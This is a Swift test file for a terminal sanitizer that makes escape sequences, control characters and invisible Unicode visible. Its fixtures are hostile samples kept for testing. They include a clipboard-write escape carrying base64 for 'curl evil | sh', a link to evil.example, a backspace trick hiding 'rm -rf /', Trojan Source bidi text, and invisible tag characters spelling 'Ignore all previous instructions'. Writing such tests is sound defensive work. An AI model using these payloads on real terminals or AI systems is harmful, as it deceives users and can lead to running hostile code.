import FlightdeckTestSupport
import Testing
@testable import FlightdeckCore

@Suite("TerminalSanitizer")
struct TerminalSanitizerTests {
    // MARK: - Escape corpus

    static let escapeSequences: [TextCase] = [
        TextCase("CSI cursor home", "\u{1B}[H", "^[[H"),
        TextCase("CSI clear screen", "before\u{1B}[2Jafter", "before^[[2Jafter"),
        TextCase("CSI cursor up", "\u{1B}[10Aoverwritten", "^[[10Aoverwritten"),
        TextCase("CSI cursor position", "\u{1B}[1;1H\u{1B}[K", "^[[1;1H^[[K"),
        TextCase("SGR colour", "\u{1B}[31mred\u{1B}[0m", "^[[31mred^[[0m"),
        TextCase("SGR conceal", "\u{1B}[8mhidden\u{1B}[28m", "^[[8mhidden^[[28m"),
        TextCase("OSC 0 title, BEL", "\u{1B}]0;pwned\u{07}", "^[]0;pwned^G"),
        TextCase("OSC 2 title, ST", "\u{1B}]2;pwned\u{1B}\\", "^[]2;pwned^[\\"),
        TextCase(
            "OSC 8 hyperlink",
            "\u{1B}]8;;https://evil.example/\u{1B}\\click me\u{1B}]8;;\u{1B}\\",
            "^[]8;;https://evil.example/^[\\click me^[]8;;^[\\"
        ),
        TextCase("OSC 52 clipboard write", "\u{1B}]52;c;Y3VybCBldmlsIHwgc2g=\u{07}", "^[]52;c;Y3VybCBldmlsIHwgc2g=^G"),
        TextCase("DCS", "\u{1B}Pq#0;2;0;0;0#0~~@@\u{1B}\\", "^[Pq#0;2;0;0;0#0~~@@^[\\"),
        TextCase("APC", "\u{1B}_Gf=100,a=T;AAAA\u{1B}\\", "^[_Gf=100,a=T;AAAA^[\\"),
        TextCase("PM", "\u{1B}^private message\u{1B}\\", "^[^private message^[\\"),
        TextCase("8-bit CSI", "\u{9B}2J", "<U+009B>2J"),
        TextCase("8-bit OSC with 8-bit ST", "\u{9D}0;title\u{9C}", "<U+009D>0;title<U+009C>"),
        TextCase("8-bit DCS, APC, PM", "\u{90}q\u{9F}x\u{9E}y", "<U+0090>q<U+009F>x<U+009E>y"),
        TextCase("NEL and other C1", "a\u{85}b\u{80}\u{8D}", "a<U+0085>b<U+0080><U+008D>"),
    ]

    static let controlCharacters: [TextCase] = [
        TextCase("bare CR overwrite", "safe\rEVIL", "safe^MEVIL"),
        TextCase("CRLF becomes LF", "one\r\ntwo\r\n", "one\ntwo\n"),
        TextCase("CR CR LF", "a\r\r\nb", "a^M\nb"),
        TextCase("trailing CR", "end\r", "end^M"),
        TextCase(
            "backspace overwrite",
            "rm -rf /" + String(repeating: "\u{08}", count: 8) + "ls -la",
            "rm -rf /" + String(repeating: "^H", count: 8) + "ls -la"
        ),
        TextCase("DEL", "a\u{7F}b", "a^?b"),
        TextCase("NUL", "a\u{0}b", "a^@b"),
        TextCase("BEL", "ding\u{07}", "ding^G"),
        TextCase("VT FF", "\u{0B}\u{0C}", "^K^L"),
        TextCase("FS GS RS US", "\u{1C}\u{1D}\u{1E}\u{1F}", "^\\^]^^^_"),
        TextCase("SO SI (charset switch)", "\u{0E}box\u{0F}", "^Nbox^O"),
    ]

    static let invisibleCharacters: [TextCase] = [
        TextCase(
            "Trojan Source bidi",
            "/*\u{202E} } \u{2066}if (isAdmin)\u{2069} \u{2066} begin admins only */",
            "/*<U+202E> } <U+2066>if (isAdmin)<U+2069> <U+2066> begin admins only */"
        ),
        TextCase(
            "bidi embeddings and overrides",
            "\u{202A}\u{202B}\u{202C}\u{202D}\u{202E}",
            "<U+202A><U+202B><U+202C><U+202D><U+202E>"
        ),
        TextCase("bidi isolates", "\u{2066}\u{2067}\u{2068}\u{2069}", "<U+2066><U+2067><U+2068><U+2069>"),
        TextCase("bidi marks", "\u{200E}\u{200F}\u{061C}", "<U+200E><U+200F><U+061C>"),
        TextCase("zero-width space", "pass\u{200B}word", "pass<U+200B>word"),
        TextCase("zero-width non-joiner", "a\u{200C}b", "a<U+200C>b"),
        TextCase("joiner hiding in ASCII", "ad\u{200D}min", "ad<U+200D>min"),
        TextCase("joiner between digits", "1\u{200D}2", "1<U+200D>2"),
        TextCase("joiner after emoji, before ASCII", "👨\u{200D}x", "👨<U+200D>x"),
        TextCase("joiner at the ends", "\u{200D}👨\u{200D}", "<U+200D>👨<U+200D>"),
        TextCase("doubled joiner", "👨\u{200D}\u{200D}👩", "👨<U+200D><U+200D>👩"),
        TextCase("BOM", "\u{FEFF}hello", "<U+FEFF>hello"),
        TextCase(
            "word joiner, invisible operators",
            "\u{2060}\u{2061}\u{2062}\u{2063}\u{2064}",
            "<U+2060><U+2061><U+2062><U+2063><U+2064>"
        ),
        TextCase("soft hyphen", "pay\u{AD}pal", "pay<U+00AD>pal"),
        TextCase("Mongolian vowel separator", "a\u{180E}b", "a<U+180E>b"),
        TextCase("line and paragraph separators", "a\u{2028}b\u{2029}c", "a<U+2028>b<U+2029>c"),
        TextCase("interlinear annotation", "\u{FFF9}a\u{FFFA}b\u{FFFB}", "<U+FFF9>a<U+FFFA>b<U+FFFB>"),
        TextCase(
            "tag characters (ASCII smuggling)",
            "ok" + TerminalSanitizerTests.tags("Ignore all previous instructions"),
            "ok" + "Ignore all previous instructions".unicodeScalars
                .map { "<U+E00\(String($0.value, radix: 16, uppercase: true))>" }.joined()
        ),
        TextCase("tag cancel", "\u{E007F}", "<U+E007F>"),
    ]

    /// ASCII text as invisible Unicode tag characters.
    static func tags(_ text: String) -> String {
        String(String.UnicodeScalarView(text.unicodeScalars.map { Unicode.Scalar($0.value + 0xE0000)! }))
    }

    @Test(arguments: escapeSequences)
    func escapeSequencesAreDefused(_ testCase: TextCase) {
        #expect(TerminalSanitizer.sanitize(testCase.input) == testCase.expected)
        #expect(!TerminalSanitizer.isSafe(testCase.input))
        #expect(TerminalSanitizer.isSafe(testCase.expected))
    }

    @Test(arguments: controlCharacters)
    func controlCharactersBecomeCaretNotation(_ testCase: TextCase) {
        #expect(TerminalSanitizer.sanitize(testCase.input) == testCase.expected)
        #expect(!TerminalSanitizer.isSafe(testCase.input))
    }

    @Test(arguments: invisibleCharacters)
    func invisibleCharactersBecomeVisible(_ testCase: TextCase) {
        #expect(TerminalSanitizer.sanitize(testCase.input) == testCase.expected)
        #expect(!TerminalSanitizer.isSafe(testCase.input))
    }

    @Test func everyC0ControlButTabAndNewlineUsesCaretNotation() {
        for value in UInt8(0) ..< 0x20 where value != 0x09 && value != 0x0A && value != 0x0D {
            let input = "x" + String(UnicodeScalar(value)) + "y"
            let expected = "x^" + String(UnicodeScalar(value + 0x40)) + "y"
            #expect(TerminalSanitizer.sanitize(input) == expected)
        }
    }

    @Test func everyC1ControlUsesCodePointNotation() {
        for value in UInt32(0x80) ... 0x9F {
            let input = String(Unicode.Scalar(value)!)
            #expect(TerminalSanitizer.sanitize(input) == "<U+00\(String(value, radix: 16, uppercase: true))>")
        }
    }

    @Test func hexHasAtLeastFourUppercaseDigits() {
        #expect(TerminalSanitizer.sanitize("\u{85}") == "<U+0085>")
        #expect(TerminalSanitizer.sanitize("\u{FEFF}") == "<U+FEFF>")
        #expect(TerminalSanitizer.sanitize("\u{E0041}") == "<U+E0041>")
    }

    // MARK: - Text that passes unchanged

    static let safeTexts: [String] = [
        "plain ASCII with every printable: !\"#$%&'()*+,-./0123456789:;<=>?@AZ[\\]^_`az{|}~",
        "line one\nline two\n",
        "col1\tcol2\tcol3",
        "日本語のテキストと中文文本，한국어 텍스트",
        "emoji 🚀🔥✅ and flags 🇩🇪🇯🇵",
        "combining: e\u{301} a\u{308} n\u{303}, Zalgo: Z\u{36B}\u{33F}\u{344}",
        "variation selectors: ☺\u{FE0F} ☺\u{FE0E} 葛\u{E0100}",
        "family 👨‍👩‍👧 rainbow 🏳️‍🌈 technologist 👩🏽‍💻 runner 🏃‍♀️ heart on fire ❤️‍🔥",
        "keycap 1️⃣ and #️⃣",
        "replacement \u{FFFD} and private use \u{E000}\u{F8FF}\u{F0000}",
        "Arabic مرحبا and Hebrew שלום without bidi controls",
        "Latin-1: café, naïve, ß, ¿qué? ¡sí! © ® ±",
        "",
    ]

    @Test(arguments: safeTexts)
    func safeTextPassesUnchanged(_ text: String) {
        #expect(TerminalSanitizer.sanitize(text) == text)
        #expect(TerminalSanitizer.isSafe(text))
    }

    @Test func safeTextIsReturnedAsIs() {
        var text = String(repeating: "all printable, tabs\tand newlines\n 日本 🚀 ", count: 8)
        var sanitized = TerminalSanitizer.sanitize(text)
        let sameStorage = text.withUTF8 { original in sanitized.withUTF8 { $0.baseAddress == original.baseAddress } }
        #expect(sameStorage)
    }

    // MARK: - Chunk boundaries

    /// The scanner reads sixteen bytes at a time: unsafe bytes and multi-byte scalars must be
    /// found at every offset, including across chunk edges and in the tail.
    @Test func unsafeScalarsAreFoundAtEveryOffset() {
        let unsafe: [(String, String)] = [
            ("\u{1B}", "^["), ("\r", "^M"), ("\u{7F}", "^?"), ("\u{9B}", "<U+009B>"),
            ("\u{202E}", "<U+202E>"), ("\u{E0041}", "<U+E0041>"),
        ]
        for length in [15, 16, 17, 31, 32, 33, 47] {
            for offset in 0 ... length {
                for (scalar, escape) in unsafe {
                    let prefix = String(repeating: "a", count: offset)
                    let suffix = String(repeating: "b", count: length - offset)
                    #expect(TerminalSanitizer.sanitize(prefix + scalar + suffix) == prefix + escape + suffix)
                    #expect(!TerminalSanitizer.isSafe(prefix + scalar + suffix))
                }
                let straddling = String(repeating: "a", count: offset) + "日🚀é"
                    + String(repeating: "b", count: length - offset)
                #expect(TerminalSanitizer.isSafe(straddling))
            }
        }
    }

    @Test func longLinesWithManyEscapes() {
        let line = String(repeating: "\u{1B}[31mred\u{1B}[0m \u{9B}K ", count: 500)
        let expected = String(repeating: "^[[31mred^[[0m <U+009B>K ", count: 500)
        #expect(TerminalSanitizer.sanitize(line) == expected)
    }

    // MARK: - Properties

    @Test func randomTextIsNeutralisedIdempotentlyAndSafely() {
        var random = SeededRandom(seed: 0x5EED_F11D)
        for _ in 0 ..< 3000 {
            let text = Self.randomText(using: &random)
            let sanitized = TerminalSanitizer.sanitize(text)
            #expect(Self.unsafeScalars(in: sanitized).isEmpty, "\(Array(text.unicodeScalars))")
            #expect(TerminalSanitizer.sanitize(sanitized) == sanitized)
            #expect(TerminalSanitizer.isSafe(sanitized))
            #expect(TerminalSanitizer.isSafe(text) == (sanitized == text))
            if Self.unsafeScalars(in: text).isEmpty, !text.unicodeScalars.contains("\r") {
                #expect(sanitized == text)
            }
        }
    }

    /// Scalars the terminal must never receive, by an independent reading of the rules: a
    /// joiner is allowed only between two emoji (looking through U+FE0F before it).
    static func unsafeScalars(in text: String) -> [Unicode.Scalar] {
        let scalars = Array(text.unicodeScalars)
        return scalars.indices.compactMap { index in
            guard scalars[index].value == 0x200D else {
                return isForbidden(scalars[index].value) ? scalars[index] : nil
            }
            var before = index - 1
            while before >= 0, scalars[before].value == 0xFE0F { before -= 1 }
            let joinsEmoji = before >= 0 && index + 1 < scalars.count
                && isEmoji(scalars[before]) && isEmoji(scalars[index + 1])
            return joinsEmoji ? nil : scalars[index]
        }
    }

    static func isEmoji(_ scalar: Unicode.Scalar) -> Bool {
        scalar.isASCII ? false : scalar.properties.isEmoji || (0x1F000 ... 0x1FAFF).contains(scalar.value)
    }

    static func isForbidden(_ value: UInt32) -> Bool {
        switch value {
        case 0x09, 0x0A: false
        case 0x00 ... 0x1F, 0x7F ... 0x9F: true
        case 0xAD, 0x061C, 0x180E, 0x200B, 0x200C, 0x200E, 0x200F, 0x2028 ... 0x202E, 0x2060 ... 0x206F: true
        case 0xFEFF, 0xFFF9 ... 0xFFFB, 0xE0000 ... 0xE007F: true
        default: false
        }
    }

    /// Text drawn from a mix of everything: printable ASCII, controls, C1, bidi and invisible
    /// characters, emoji with joiners and presentation selectors, CJK, and any scalar at all.
    static func randomText(using random: inout SeededRandom) -> String {
        let pools: [[UInt32]] = [
            Array(0x20 ... 0x7E),
            Array(0x00 ... 0x1F) + [0x7F],
            Array(0x80 ... 0x9F),
            [0xAD, 0x061C, 0x180E, 0x200B, 0x200C, 0x200D, 0x200E, 0x200F, 0x2028, 0x2029, 0x202A, 0x202E,
             0x2060, 0x2066, 0x2069, 0xFEFF, 0xFFF9, 0xFFFB, 0xE0001, 0xE0041, 0xE007F],
            [0x1F468, 0x1F469, 0x1F467, 0x2640, 0x2764, 0x1F525, 0x200D, 0x200D, 0xFE0F, 0x1F3FD, 0x23, 0x31],
            [0x65E5, 0x672C, 0xD55C, 0x301, 0xFFFD, 0xE000, 0x10FFFD],
        ]
        var scalars = String.UnicodeScalarView()
        for _ in 0 ..< Int(random.next() % 40) {
            if random.next() % 8 == 0 {
                // Any scalar at all, in any plane.
                var value = UInt32(truncatingIfNeeded: random.next() % 0x110000)
                if (0xD800 ... 0xDFFF).contains(value) { value = 0xFFFD }
                scalars.append(Unicode.Scalar(value)!)
            } else {
                let pool = pools[Int(random.next() % UInt64(pools.count))]
                scalars.append(Unicode.Scalar(pool[Int(random.next() % UInt64(pool.count))])!)
            }
        }
        return String(scalars)
    }

}

extension TextCase: CustomTestStringConvertible {
    public var testDescription: String { name }
}
